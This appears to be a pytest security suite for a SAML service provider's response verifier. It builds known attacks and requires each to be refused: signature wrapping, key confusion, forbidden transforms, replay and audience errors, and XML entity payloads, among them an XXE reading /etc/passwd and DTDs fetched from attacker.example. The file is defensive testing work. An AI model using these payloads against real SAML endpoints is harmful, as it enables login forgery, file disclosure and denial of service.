"""Known attacks on SAML service providers, each against ``verify_response``.

Every response is made by ``saml_forge.SamlForge`` at the frozen instant
``NOW`` and verified at that instant unless a test moves the clock. Each attack
names the exact refusal (error class and reason code) it must meet; the valid
response, and the legitimate variants next to each attack, must be accepted.

Catalogues followed: Somorovsky et al., "On Breaking SAML: Be Whoever You Want
to Be" (USENIX Security 2012) and SAML Raider's XSW1-XSW8; Duo Labs' 2018 comment
truncation (CVE-2017-11427 and siblings); XXE and entity expansion; algorithm
and key confusion; SAML profiles §4.1.4 (bearer, InResponseTo, Recipient,
Audience, time window, one-time use).
"""

from __future__ import annotations

import base64
import copy
import os
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import xmlsec
from lxml import etree

from hubgate.sso.identity import Identity
from hubgate.sso.saml import errors
from hubgate.sso.saml.config import SamlConfig
from hubgate.sso.saml.errors import SamlError
from hubgate.sso.saml.response import ResponseContext, verify_response
from tests.security.saml_forge import (
    BEARER,
    GROUPS,
    NOW,
    NS,
    REQUEST_ID,
    SP_ENTITY_ID,
    Keys,
    MemoryReplay,
    SamlForge,
    config_for,
    encode,
    encrypt_assertion,
    find,
    serialize,
    session_keys,
    sign,
)

SKEW = timedelta(seconds=120)  # SamlConfig.clock_skew's default
EVIL = "ceo@acme.example"  # who every wrapping attack tries to become
ASSERTION = "saml:Assertion"
NAME_ID = "saml:Assertion/saml:Subject/saml:NameID"
XML_ID = "{http://www.w3.org/XML/1998/namespace}id"


@pytest.fixture(scope="session")
def keys() -> Keys:
    return session_keys()


@pytest.fixture
def forge(keys: Keys) -> SamlForge:
    return SamlForge(keys)


@pytest.fixture
def config(keys: Keys) -> SamlConfig:
    return config_for(keys)


def verify(
    encoded: str | bytes,
    config: SamlConfig,
    *,
    now: datetime = NOW,
    request_id: str | None = REQUEST_ID,
    replay: MemoryReplay | None = None,
) -> Identity:
    context = ResponseContext(now=now, request_id=request_id)
    return verify_response(encoded, config, context, replay or MemoryReplay())


def refused(
    expected: type[SamlError], encoded: str | bytes, config: SamlConfig, **context: Any
) -> SamlError:
    """Verify and require exactly ``expected`` (not a sibling, not a bare SamlError)."""
    with pytest.raises(SamlError) as caught:
        verify(encoded, config, **context)
    error = caught.value
    assert type(error) is expected, f"{type(error).__name__} ({error.code}): {error}"
    assert error.code == expected.default_code
    return error


def make_evil(element: etree._Element) -> None:
    """What every wrapping attack wants the SP to read: another person, more groups."""
    for name_id in element.iter(f"{{{NS['saml']}}}NameID"):
        name_id.text = EVIL
    for value in element.iter(f"{{{NS['saml']}}}AttributeValue"):
        if value.text and "@" in value.text:
            value.text = EVIL
    for attribute in element.iter(f"{{{NS['saml']}}}Attribute"):
        if attribute.get("Name") == "groups":
            extra = copy.deepcopy(attribute[0])
            extra.text = "org-admins"
            attribute.append(extra)


def without_signature(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    clone.remove(find(clone, "ds:Signature"))
    return clone


# --- the baseline -------------------------------------------------------------------


def test_valid_response_is_accepted(forge: SamlForge, config: SamlConfig) -> None:
    """What Okta sends for Ada: signed assertion, answering this browser's request."""
    identity = verify(forge.response(), config)
    assert identity.connection_id == config.connection_id
    assert identity.subject == "ada.lovelace@acme.example"
    assert identity.email == "ada.lovelace@acme.example"
    assert identity.display_name == "Ada Lovelace"
    assert identity.groups == GROUPS
    assert identity.authenticated_at == NOW - timedelta(seconds=30)
    assert identity.session_expires_at == NOW + timedelta(hours=8)


@pytest.mark.parametrize(
    "options",
    [
        pytest.param({"sign_response": True}, id="response-and-assertion-signed"),
        pytest.param({"method": "rsa-sha512", "digest": "sha512"}, id="rsa-sha512"),
        pytest.param({"key_info": True}, id="idp-certificate-in-keyinfo"),
        pytest.param({"encrypt": {}}, id="encrypted-aes256-gcm"),
        pytest.param({"encrypt": {"cipher": "aes128-cbc"}}, id="encrypted-aes128-cbc"),
        pytest.param(
            {"encrypt": {}, "sign_response": True}, id="encrypted-and-response-signed-too"
        ),
    ],
)
def test_legitimate_variants_are_accepted(
    forge: SamlForge, config: SamlConfig, options: dict[str, Any]
) -> None:
    identity = verify(forge.response(**options), config)
    assert (identity.subject, identity.groups) == ("ada.lovelace@acme.example", GROUPS)


def test_response_signed_by_the_next_idp_key_is_accepted(
    forge: SamlForge, keys: Keys, config: SamlConfig
) -> None:
    """Key rollover: both configured certificates are trusted."""
    assert verify(forge.response(signer=keys.idp_next), config).subject.startswith("ada")


def test_ecdsa_signed_response_is_accepted(forge: SamlForge, keys: Keys) -> None:
    config = config_for(keys, idp_certificates=(keys.idp_ec.cert_pem,))
    encoded = forge.response(signer=keys.idp_ec, method="ecdsa-sha256")
    assert verify(encoded, config).subject == "ada.lovelace@acme.example"


def test_only_response_signed_is_accepted_when_the_connection_allows_it(
    forge: SamlForge, keys: Keys, config: SamlConfig
) -> None:
    """SAML core allows the signature on the Response alone; the connection decides."""
    encoded = forge.response(sign_assertion=False, sign_response=True)
    lenient = config_for(keys, want_assertions_signed=False)
    assert verify(encoded, lenient).subject == "ada.lovelace@acme.example"
    refused(errors.SignatureMissing, encoded, config)


def test_bytes_and_line_wrapped_base64_are_accepted(forge: SamlForge, config: SamlConfig) -> None:
    """Some IdPs wrap the form value at 76 columns (MIME style)."""
    encoded = forge.response()
    assert verify(encoded.encode(), config).subject.startswith("ada")
    wrapped = "\r\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76))
    assert verify(wrapped, config, replay=MemoryReplay()).subject.startswith("ada")


# --- the attack table -----------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    build: Callable[[SamlForge], str]
    expected: type[SamlError]
    config: dict[str, Any] = field(default_factory=dict)

    @property
    def name(self) -> str:
        return self.build.__name__.replace("_", "-")


ATTACKS: list[Attack] = []


def attack(expected: type[SamlError], **config: Any) -> Callable[[Callable[[SamlForge], str]], Any]:
    """Register a builder: its docstring says what the attack is, ``expected`` the refusal."""

    def register(build: Callable[[SamlForge], str]) -> Callable[[SamlForge], str]:
        ATTACKS.append(Attack(build, expected, config))
        return build

    return register


# XML signature wrapping (Somorovsky et al. 2012; SAML Raider XSW1-XSW8). Each
# keeps the original signed element somewhere the signature still finds it and
# puts an evil, unsigned copy where a naive SP reads its claims.


@attack(errors.UnexpectedStructure, want_assertions_signed=False)  # two Responses
def xsw1_signed_response_moved_into_its_signature(forge: SamlForge) -> str:
    """XSW1: the Response is signed. The evil Response (new ID) keeps the original
    Signature; the original Response, unsigned, is appended inside that Signature
    so the Reference still resolves to it."""
    root = forge.tree(sign_assertion=False, sign_response=True)
    original = without_signature(root)
    make_evil(root)
    root.set("ID", "_evil_response")
    find(root, "ds:Signature").append(original)
    return encode(root)


@attack(errors.UnexpectedStructure, want_assertions_signed=False)  # two Responses
def xsw2_signed_response_moved_before_its_signature(forge: SamlForge) -> str:
    """XSW2: as XSW1, but the original Response is placed before the Signature, as a
    sibling inside the evil Response (a detached signature)."""
    root = forge.tree(sign_assertion=False, sign_response=True)
    original = without_signature(root)
    make_evil(root)
    root.set("ID", "_evil_response")
    find(root, "ds:Signature").addprevious(original)
    return encode(root)


@attack(errors.UnexpectedStructure)
def xsw3_evil_assertion_before_the_signed_one(forge: SamlForge) -> str:
    """XSW3: an unsigned evil copy of the Assertion (new ID) is inserted before the
    signed one; an SP that reads the first Assertion reads the evil one."""
    root = forge.tree()
    signed = find(root, ASSERTION)
    evil = without_signature(signed)
    evil.set("ID", "_evil_assertion")
    make_evil(evil)
    signed.addprevious(evil)
    return encode(root)


@attack(errors.UnexpectedStructure)
def xsw4_signed_assertion_inside_the_evil_one(forge: SamlForge) -> str:
    """XSW4: the evil Assertion takes the signed one's place and holds the signed
    Assertion as its child."""
    root = forge.tree()
    signed = find(root, ASSERTION)
    evil = without_signature(signed)
    evil.set("ID", "_evil_assertion")
    make_evil(evil)
    signed.addprevious(evil)
    evil.append(signed)
    return encode(root)


@attack(errors.UnexpectedStructure)
def xsw5_evil_assertion_keeps_the_signature(forge: SamlForge) -> str:
    """XSW5: the signed Assertion is modified in place and renamed (keeping the now
    invalid Signature); an unsigned copy of the original is appended at the end of
    the Response for the Reference to find."""
    root = forge.tree()
    evil = find(root, ASSERTION)
    root.append(without_signature(evil))
    make_evil(evil)
    evil.set("ID", "_evil_assertion")
    return encode(root)


@attack(errors.UnexpectedStructure)
def xsw6_original_inside_the_moved_signature(forge: SamlForge) -> str:
    """XSW6: as XSW5, but the unsigned original is placed inside the evil Assertion's
    Signature element."""
    root = forge.tree()
    evil = find(root, ASSERTION)
    original = without_signature(evil)
    make_evil(evil)
    evil.set("ID", "_evil_assertion")
    find(evil, "ds:Signature").append(original)
    return encode(root)


@attack(errors.SignatureReference)
def xsw7_evil_assertion_in_extensions(forge: SamlForge) -> str:
    """XSW7: an unsigned evil clone (same ID) inside samlp:Extensions, a place schema
    validation lets anything through; the signed Assertion stays where it was."""
    root = forge.tree()
    signed = find(root, ASSERTION)
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    evil = without_signature(signed)
    make_evil(evil)
    extensions.append(evil)
    find(root, "samlp:Status").addprevious(extensions)
    return encode(root)


@attack(errors.SignatureReference)
def xsw8_original_in_a_signature_object(forge: SamlForge) -> str:
    """XSW8: the signed Assertion is modified in place (same ID); an unsigned copy of
    the original goes into a ds:Object appended to its Signature."""
    root = forge.tree()
    evil = find(root, ASSERTION)
    original = without_signature(evil)
    make_evil(evil)
    holder = etree.SubElement(find(evil, "ds:Signature"), f"{{{NS['ds']}}}Object")
    holder.append(original)
    return encode(root)


@attack(errors.UnexpectedStructure)
def xsw7_with_a_fresh_id(forge: SamlForge) -> str:
    """XSW7 with the evil clone renamed, so that no duplicate ID gives it away."""
    root = forge.tree()
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    evil = without_signature(find(root, ASSERTION))
    evil.set("ID", "_evil_assertion")
    make_evil(evil)
    extensions.append(evil)
    find(root, "samlp:Status").addprevious(extensions)
    return encode(root)


@attack(errors.UnexpectedStructure)
def xsw8_with_a_fresh_id_for_the_evil_assertion(forge: SamlForge) -> str:
    """XSW8 where the modified Assertion is renamed, so no duplicate ID gives it away:
    the Reference now resolves into the ds:Object."""
    root = forge.tree()
    evil = find(root, ASSERTION)
    original = without_signature(evil)
    make_evil(evil)
    evil.set("ID", "_evil_assertion")
    holder = etree.SubElement(find(evil, "ds:Signature"), f"{{{NS['ds']}}}Object")
    holder.append(original)
    return encode(root)


@attack(errors.UnexpectedStructure)
def wrapping_through_advice(forge: SamlForge) -> str:
    """The signed Assertion hidden in the evil Assertion's saml:Advice, the one place
    where the schema itself allows an Assertion inside an Assertion."""
    root = forge.tree()
    signed = find(root, ASSERTION)
    evil = without_signature(signed)
    evil.set("ID", "_evil_assertion")
    make_evil(evil)
    advice = etree.Element(f"{{{NS['saml']}}}Advice")
    find(evil, "saml:Conditions").addnext(advice)
    signed.addprevious(evil)
    advice.append(signed)
    return encode(root)


@attack(errors.SignatureReference)
def id_confusion_through_xml_id(forge: SamlForge) -> str:
    """An evil element carries ``xml:id`` equal to the signed Assertion's ID: libxml2
    registers xml:id as an ID on parsing, so an xmlsec lookup of the Reference may
    resolve to it (ID confusion between ``ID`` and ``xml:id``)."""
    root = forge.tree()
    signed = find(root, ASSERTION)
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    decoy = etree.SubElement(extensions, f"{{{NS['saml']}}}Evidence")
    decoy.set(XML_ID, signed.get("ID"))
    find(root, "samlp:Status").addprevious(extensions)
    return encode(root)


@attack(errors.SignatureReference)
def signature_moved_to_the_response(forge: SamlForge) -> str:
    """The Assertion's signature is moved up to the Response (where signatures are
    allowed) and the Assertion is modified: the Reference no longer names the
    element that carries the signature."""
    root = forge.tree()
    assertion = find(root, ASSERTION)
    signature = find(assertion, "ds:Signature")
    find(root, "saml:Issuer").addnext(signature)
    make_evil(assertion)
    return encode(root)


@attack(errors.SignatureReference)
def signature_inside_the_subject(forge: SamlForge) -> str:
    """A signature placed deeper than the element it should envelop."""
    root = forge.tree()
    assertion = find(root, ASSERTION)
    find(assertion, "saml:Subject").append(find(assertion, "ds:Signature"))
    return encode(root)


@attack(errors.SignatureReference)
def assertion_signature_covering_the_response(forge: SamlForge) -> str:
    """A signature enveloped in the Assertion whose Reference points at the Response:
    valid crypto, but it does not cover the element that carries it."""
    root = forge.tree(sign_assertion=False)
    sign(find(root, ASSERTION), forge.keys.idp, reference_uri=f"#{root.get('ID')}")
    return encode(root)


@attack(errors.SignatureReference)
def reference_to_the_whole_document(forge: SamlForge) -> str:
    """``Reference URI=""`` signs the whole document; the SP must insist on ``#ID``."""
    root = forge.tree(sign_assertion=False)
    sign(find(root, ASSERTION), forge.keys.idp, reference_uri="")
    return encode(root)


@attack(errors.SignatureReference)
def two_references_in_one_signature(forge: SamlForge) -> str:
    """A second Reference in SignedInfo (to be satisfied by some other element)."""
    root = forge.tree()
    reference = find(root, "saml:Assertion/ds:Signature/ds:SignedInfo/ds:Reference")
    reference.addnext(copy.deepcopy(reference))
    return encode(root)


def _doubled(forge: SamlForge, path: str) -> str:
    """The signed response with a copy of the element at ``path`` right after it."""
    root = forge.tree()
    part = find(root, path)
    part.addnext(copy.deepcopy(part))
    return encode(root)


@attack(errors.SignatureReference)
def two_signed_infos(forge: SamlForge) -> str:
    """A second SignedInfo: the one the SP checks and the one xmlsec digests could differ."""
    return _doubled(forge, "saml:Assertion/ds:Signature/ds:SignedInfo")


@attack(errors.SignatureReference)
def two_canonicalization_methods(forge: SamlForge) -> str:
    """A second CanonicalizationMethod in SignedInfo (an allowed one, twice)."""
    return _doubled(forge, "saml:Assertion/ds:Signature/ds:SignedInfo/ds:CanonicalizationMethod")


@attack(errors.SignatureReference)
def two_signature_methods(forge: SamlForge) -> str:
    """A second SignatureMethod in SignedInfo (an allowed one, twice)."""
    return _doubled(forge, "saml:Assertion/ds:Signature/ds:SignedInfo/ds:SignatureMethod")


@attack(errors.SignatureReference)
def two_digest_methods(forge: SamlForge) -> str:
    """A second DigestMethod in the Reference (an allowed one, twice)."""
    return _doubled(forge, "saml:Assertion/ds:Signature/ds:SignedInfo/ds:Reference/ds:DigestMethod")


@attack(errors.SignatureReference)
def two_signatures_on_the_assertion(forge: SamlForge) -> str:
    """A second, attacker-made signature next to the IdP's."""
    root = forge.tree()
    assertion = find(root, ASSERTION)
    find(assertion, "ds:Signature").addnext(copy.deepcopy(find(assertion, "ds:Signature")))
    return encode(root)


# Signature stripping, forging, weak algorithms and key confusion.


@attack(errors.SignatureMissing)
def signature_removed(forge: SamlForge) -> str:
    """The Assertion's Signature is deleted and the claims changed."""
    root = forge.tree()
    assertion = find(root, ASSERTION)
    assertion.remove(find(assertion, "ds:Signature"))
    make_evil(assertion)
    return encode(root)


@attack(errors.SignatureMissing)
def unsigned_assertion_in_unsigned_response(forge: SamlForge) -> str:
    """Nothing is signed at all."""
    return forge.response(forge.claims(name_id=EVIL), sign_assertion=False)


@attack(errors.SignatureInvalid)
def claims_changed_after_signing(forge: SamlForge) -> str:
    """The classic: edit the NameID of a signed Assertion."""
    root = forge.tree()
    find(root, NAME_ID).text = EVIL
    return encode(root)


@attack(errors.SignatureInvalid)
def signature_value_tampered(forge: SamlForge) -> str:
    """A flipped bit in SignatureValue."""
    root = forge.tree()
    value = find(root, "saml:Assertion/ds:Signature/ds:SignatureValue")
    raw = bytearray(base64.b64decode("".join(value.text.split())))
    raw[10] ^= 1
    value.text = base64.b64encode(bytes(raw)).decode()
    return encode(root)


@attack(errors.SignatureInvalid)
def attacker_key_in_keyinfo(forge: SamlForge) -> str:
    """Signed with the attacker's own key, its certificate embedded in KeyInfo for an
    SP that verifies with whatever key the message brings."""
    return forge.response(forge.claims(name_id=EVIL), signer=forge.keys.attacker, key_info=True)


@attack(errors.SignatureInvalid)
def signed_by_another_orgs_idp(forge: SamlForge) -> str:
    """A genuine signature by globex's IdP (a real, trusted-looking key, but not this
    connection's), claiming acme's entity ID."""
    return forge.response(signer=forge.keys.other_idp, key_info=True)


@attack(errors.SignatureInvalid, want_assertions_signed=False)
def response_signature_forged_around_a_valid_assertion(forge: SamlForge) -> str:
    """A valid signed Assertion in a Response the attacker signed with its own key."""
    root = forge.tree()
    sign(root, forge.keys.attacker, key_info=True)
    return encode(root)


@attack(errors.SignatureAlgorithm)
def rsa_sha1_signature(forge: SamlForge) -> str:
    """SHA-1 (SHAttered; chosen-prefix collisions are practical)."""
    return forge.response(method="rsa-sha1", digest="sha1")


@attack(errors.SignatureAlgorithm)
def sha1_digest_under_rsa_sha256(forge: SamlForge) -> str:
    """A strong SignatureMethod over a SHA-1 DigestValue is still SHA-1."""
    return forge.response(digest="sha1")


@attack(errors.SignatureAlgorithm)
def hmac_sha256_signature(forge: SamlForge) -> str:
    """HMAC with a secret the attacker chose (an SP that takes the key from KeyInfo)."""
    return forge.response(
        forge.claims(name_id=EVIL), signer=b"attacker secret", method="hmac-sha256"
    )


@attack(errors.SignatureAlgorithm)
def hmac_keyed_with_the_idp_certificate(forge: SamlForge) -> str:
    """Key confusion: HMAC whose secret is the IdP's public certificate (the JWT
    RS256/HS256 trick carried over to XML-DSig)."""
    secret = forge.keys.idp.cert_pem.encode()
    return forge.response(forge.claims(name_id=EVIL), signer=secret, method="hmac-sha256")


@attack(errors.ForbiddenTransform)
def xpath_transform(forge: SamlForge) -> str:
    """An XPath filter transform decides which nodes are digested."""
    return forge.response(transforms=("enveloped", "xpath", "exc-c14n"))


@attack(errors.ForbiddenTransform)
def comments_kept_by_the_transform(forge: SamlForge) -> str:
    """exc-c14n#WithComments as the Reference transform."""
    return forge.response(transforms=("enveloped", "exc-c14n-with-comments"))


@attack(errors.ForbiddenTransform)
def inclusive_c14n_transform(forge: SamlForge) -> str:
    """Inclusive c14n pulls in the ancestors' namespace context."""
    return forge.response(transforms=("enveloped", "c14n"))


@attack(errors.ForbiddenTransform)
def xslt_transform(forge: SamlForge) -> str:
    """An XSLT transform: code execution and file access in the verifier's XSLT engine.
    (Inserted after signing: it must be refused before anything is computed.)"""
    root = forge.tree()
    transforms = find(root, "saml:Assertion/ds:Signature/ds:SignedInfo/ds:Reference/ds:Transforms")
    xslt = etree.SubElement(transforms, f"{{{NS['ds']}}}Transform")
    xslt.set("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
    stylesheet = etree.SubElement(xslt, "{http://www.w3.org/1999/XSL/Transform}stylesheet")
    stylesheet.set("version", "1.0")
    etree.SubElement(stylesheet, "{http://www.w3.org/1999/XSL/Transform}template").set("match", "/")
    return encode(root)


@attack(errors.ForbiddenTransform)
def canonicalization_with_comments(forge: SamlForge) -> str:
    """SignedInfo canonicalized with comments kept."""
    return forge.response(canonicalization="exc-c14n-with-comments")


# Structure.


@attack(errors.UnexpectedStructure)
def two_signed_assertions(forge: SamlForge) -> str:
    """Two Assertions, both genuinely signed by the IdP (one for someone else): which
    one the SP reads is up to chance."""
    root = forge.tree()
    other = forge.tree(forge.claims(name_id=EVIL))
    root.append(find(other, ASSERTION))
    return encode(root)


@attack(errors.UnexpectedStructure)
def plain_and_encrypted_assertion(forge: SamlForge) -> str:
    """A signed EncryptedAssertion next to an unsigned plain one."""
    root = forge.tree(encrypt={})
    evil = forge.tree(forge.claims(name_id=EVIL), sign_assertion=False)
    root.append(find(evil, ASSERTION))
    return encode(root)


@attack(errors.UnexpectedStructure)
def bare_assertion_without_response(forge: SamlForge) -> str:
    """A signed Assertion posted on its own, without the Response around it."""
    return encode(find(forge.tree(), ASSERTION))


@attack(errors.UnexpectedStructure)
def second_response_in_extensions(forge: SamlForge) -> str:
    """A second samlp:Response hidden in Extensions (no Assertion in it): the SP must
    accept exactly one Response."""
    root = forge.tree()
    hidden = forge.tree(sign_assertion=False)
    hidden.remove(find(hidden, ASSERTION))
    hidden.set("ID", "_hidden_response")
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    extensions.append(hidden)
    find(root, "samlp:Status").addprevious(extensions)
    return encode(root)


# Encryption.


@attack(errors.SignatureMissing)
def encrypted_unsigned_assertion(forge: SamlForge) -> str:
    """Anyone can encrypt to the SP's public certificate: encryption is no signature."""
    return forge.response(forge.claims(name_id=EVIL), sign_assertion=False, encrypt={})


@attack(errors.SignatureInvalid)
def encrypted_assertion_signed_by_the_attacker(forge: SamlForge) -> str:
    """An attacker-signed Assertion, encrypted to the SP: the signature check must run
    on the decrypted Assertion."""
    return forge.response(
        forge.claims(name_id=EVIL), signer=forge.keys.attacker, key_info=True, encrypt={}
    )


@attack(errors.KeyTransportForbidden)
def rsa1_5_key_transport(forge: SamlForge) -> str:
    """RSA PKCS#1 v1.5 key transport (Bleichenbacher's padding oracle)."""
    return forge.response(encrypt={"key_transport": "rsa1_5"})


@attack(errors.SignatureReference)  # xml:id is refused before decryption is tried
def rsa1_5_key_moved_out_of_the_encrypted_assertion(forge: SamlForge) -> str:
    """The RSA1_5 EncryptedKey is moved out of saml:EncryptedAssertion (to the end of
    the Response, ``xml:id`` making it addressable) and fetched back through a
    ds:RetrievalMethod: an algorithm check that only looks inside the
    EncryptedAssertion misses it while xmlsec still follows the reference."""
    root = forge.tree(encrypt={"key_transport": "rsa1_5"})
    encrypted_key = find(root, ".//xenc:EncryptedKey")
    key_info = encrypted_key.getparent()
    encrypted_key.set(XML_ID, "_key1")
    root.append(encrypted_key)
    retrieval = etree.SubElement(key_info, f"{{{NS['ds']}}}RetrievalMethod")
    retrieval.set("URI", "#_key1")
    retrieval.set("Type", "http://www.w3.org/2001/04/xmlenc#EncryptedKey")
    return encode(root)


@attack(errors.DecryptionFailed)
def encrypted_to_another_key(forge: SamlForge) -> str:
    """An EncryptedAssertion for some other SP's key."""
    return forge.response(encrypt={"to": forge.keys.attacker})


@attack(errors.DecryptionFailed)
def decryption_oracle_well_formed_non_assertion(forge: SamlForge) -> str:
    """Jager & Somorovsky 2011 (How to Break XML Encryption): an AES-CBC oracle needs
    the SP to answer differently when the plaintext parses but is not an Assertion
    than when decryption fails. Both must be the same refusal."""
    root = forge.tree(sign_assertion=False)
    decoy = etree.Element(f"{{{NS['saml']}}}Issuer")
    decoy.text = "anything"
    encrypt_assertion(root, forge.keys.sp, cipher="aes128-cbc", content=decoy)
    return encode(root)


# Status, addressing, audience, subject confirmation, time.


@attack(errors.StatusNotSuccess)
def status_not_success(forge: SamlForge) -> str:
    """A Responder/AuthnFailed status around an otherwise valid signed Assertion."""
    return forge.response(forge.claims(status="urn:oasis:names:tc:SAML:2.0:status:Responder"))


@attack(errors.StatusNotSuccess)
def status_not_success_without_assertion(forge: SamlForge) -> str:
    """How IdPs really say no (user not assigned to the app): a Response with a failed
    Status and no Assertion. The admin must see the status, not a structure error."""
    root = forge.tree(
        forge.claims(status="urn:oasis:names:tc:SAML:2.0:status:Requester"), sign_assertion=False
    )
    root.remove(find(root, ASSERTION))
    return encode(root)


@attack(errors.IssuerMismatch)
def assertion_issuer_is_another_idp(forge: SamlForge) -> str:
    """Signed by a configured key, but issued under another entity ID."""
    return forge.response(forge.claims(assertion_issuer="https://idp.globex.example"))


@attack(errors.IssuerMismatch)
def response_issuer_is_another_idp(forge: SamlForge) -> str:
    """The (unsigned) Response names another issuer than its Assertion."""
    return forge.response(forge.claims(response_issuer="https://idp.globex.example"))


@attack(errors.IssuerMismatch)
def assertion_without_issuer(forge: SamlForge) -> str:
    """SAML core §2.3.3: the Assertion's Issuer is required."""
    return forge.response(forge.claims(assertion_issuer=None))


@attack(errors.DestinationMismatch)
def destination_is_another_sp(forge: SamlForge) -> str:
    """A response for another SP's ACS, forwarded here."""
    return forge.response(forge.claims(destination="https://evil.example/acs"))


@attack(errors.DestinationMismatch)
def signed_response_without_destination(forge: SamlForge) -> str:
    """SAML bindings §3.5.5.2: a signed response must carry Destination."""
    return forge.response(forge.claims(destination=None), sign_response=True)


@attack(errors.RecipientMismatch)
def recipient_is_another_sp(forge: SamlForge) -> str:
    """The bearer assertion was delivered to another ACS."""
    return forge.response(forge.claims(recipient="https://evil.example/acs"))


@attack(errors.RecipientMismatch)
def recipient_missing(forge: SamlForge) -> str:
    """Profiles §4.1.4.2: the bearer SubjectConfirmationData must carry Recipient."""
    return forge.response(forge.claims(recipient=None))


@attack(errors.AudienceMismatch)
def audience_is_another_sp(forge: SamlForge) -> str:
    """An assertion for another service provider (same IdP) replayed here."""
    return forge.response(forge.claims(audiences=("https://other-sp.example",)))


@attack(errors.AudienceMismatch)
def no_audience_restriction(forge: SamlForge) -> str:
    """An assertion good for any SP."""
    return forge.response(forge.claims(audiences=()))


@attack(errors.SubjectConfirmationInvalid)
def holder_of_key_instead_of_bearer(forge: SamlForge) -> str:
    """The only SubjectConfirmation is holder-of-key (the browser proves nothing)."""
    return forge.response(forge.claims(method="urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"))


@attack(errors.SubjectConfirmationInvalid)
def bearer_confirmation_borrowing_another_confirmations_data(forge: SamlForge) -> str:
    """An empty bearer SubjectConfirmation next to a holder-of-key one whose
    SubjectConfirmationData names this ACS: the data belongs to the holder-of-key
    confirmation only, so no bearer confirmation is usable (profiles §4.1.4.2: the
    data that counts is a child of the bearer confirmation itself)."""

    def add_empty_bearer(response: etree._Element) -> None:
        holder_of_key = find(response, "saml:Assertion/saml:Subject/saml:SubjectConfirmation")
        bearer = etree.Element(f"{{{NS['saml']}}}SubjectConfirmation", Method=BEARER)
        holder_of_key.addprevious(bearer)

    return forge.response(
        forge.claims(method="urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"),
        before_signing=add_empty_bearer,
    )


@attack(errors.SubjectConfirmationInvalid)
def bearer_without_not_on_or_after(forge: SamlForge) -> str:
    """Profiles §4.1.4.2: a bearer confirmation must bound its lifetime."""
    return forge.response(forge.claims(confirmation_not_on_or_after=None))


@attack(errors.SubjectConfirmationInvalid)
def bearer_confirmation_expired(forge: SamlForge) -> str:
    """The bearer window closed (beyond the skew) while Conditions are still open."""
    return forge.response(forge.claims(confirmation_not_on_or_after=-(SKEW + timedelta(seconds=1))))


@attack(errors.AssertionExpired)
def conditions_expired(forge: SamlForge) -> str:
    """Conditions NotOnOrAfter passed beyond the skew (bearer window still open)."""
    return forge.response(forge.claims(not_on_or_after=-(SKEW + timedelta(seconds=1))))


@attack(errors.AssertionNotYetValid)
def conditions_not_yet_valid(forge: SamlForge) -> str:
    """NotBefore further in the future than the skew allows."""
    return forge.response(forge.claims(not_before=SKEW + timedelta(seconds=1)))


@attack(errors.InResponseToMismatch)
def in_response_to_a_foreign_request(forge: SamlForge) -> str:
    """A response (login CSRF or stolen) to a request another browser started."""
    return forge.response(
        forge.claims(in_response_to="_foreign", confirmation_in_response_to="_foreign")
    )


@attack(errors.InResponseToMismatch)
def in_response_to_swapped_on_the_unsigned_response(forge: SamlForge) -> str:
    """Only the Assertion is signed: the attacker rewrites the Response's InResponseTo
    to its own request; the signed SubjectConfirmationData still names the victim's."""
    return forge.response(forge.claims(confirmation_in_response_to="_victims_request"))


@attack(errors.InResponseToMismatch)
def unsolicited_response_while_a_request_is_pending(forge: SamlForge) -> str:
    """No InResponseTo at all, delivered to a browser that started a request."""
    return forge.response(forge.claims(in_response_to=None, confirmation_in_response_to=None))


# Malformed or hostile XML and encoding.


def _with_doctype(forge: SamlForge, doctype: str, *, utf16: bool = False) -> str:
    body = serialize(forge.tree()).split(b"?>", 1)[1].decode()
    text = f'<?xml version="1.0" encoding="{"UTF-16" if utf16 else "UTF-8"}"?>\n{doctype}{body}'
    return encode(text.encode("utf-16" if utf16 else "utf-8"))


LAUGHS = (
    '<!DOCTYPE samlp:Response [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i else "&lol;" * 10}">' for i in range(9))
    + "]>"
)


@attack(errors.ForbiddenXml)
def doctype_declaration(forge: SamlForge) -> str:
    """Any DTD at all: the SAML schema has no use for one."""
    return _with_doctype(forge, "<!DOCTYPE samlp:Response>")


@attack(errors.ForbiddenXml)
def external_entity_xxe(forge: SamlForge) -> str:
    """XXE: an external entity reading a local file."""
    return _with_doctype(
        forge, '<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    )


@attack(errors.ForbiddenXml)
def external_parameter_entity(forge: SamlForge) -> str:
    """Out-of-band XXE via a parameter entity fetched from the attacker's server."""
    return _with_doctype(
        forge,
        '<!DOCTYPE samlp:Response [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
    )


@attack(errors.ForbiddenXml)
def billion_laughs(forge: SamlForge) -> str:
    """Entity expansion: 10^9 'lol's from a few hundred bytes."""
    return _with_doctype(forge, LAUGHS)


@attack(errors.ForbiddenXml)
def billion_laughs_in_utf16(forge: SamlForge) -> str:
    """The same, encoded in UTF-16 so that a byte search for '<!DOCTYPE' misses it."""
    return _with_doctype(forge, LAUGHS, utf16=True)


@attack(errors.ForbiddenXml)
def external_dtd_in_utf16(forge: SamlForge) -> str:
    """An external DTD (SSRF) in a UTF-16 document."""
    return _with_doctype(
        forge, '<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/saml.dtd">', utf16=True
    )


@attack(errors.MalformedResponse)
def not_base64(forge: SamlForge) -> str:
    """Garbage in the form value."""
    return "this is not base64 at all!"


@attack(errors.MalformedResponse)
def base64_of_not_xml(forge: SamlForge) -> str:
    """Valid base64, but not XML."""
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256))).decode()


@attack(errors.MalformedResponse)
def empty_form_value(forge: SamlForge) -> str:
    """An empty SAMLResponse."""
    return ""


@attack(errors.MalformedResponse)
def unknown_xml_encoding(forge: SamlForge) -> str:
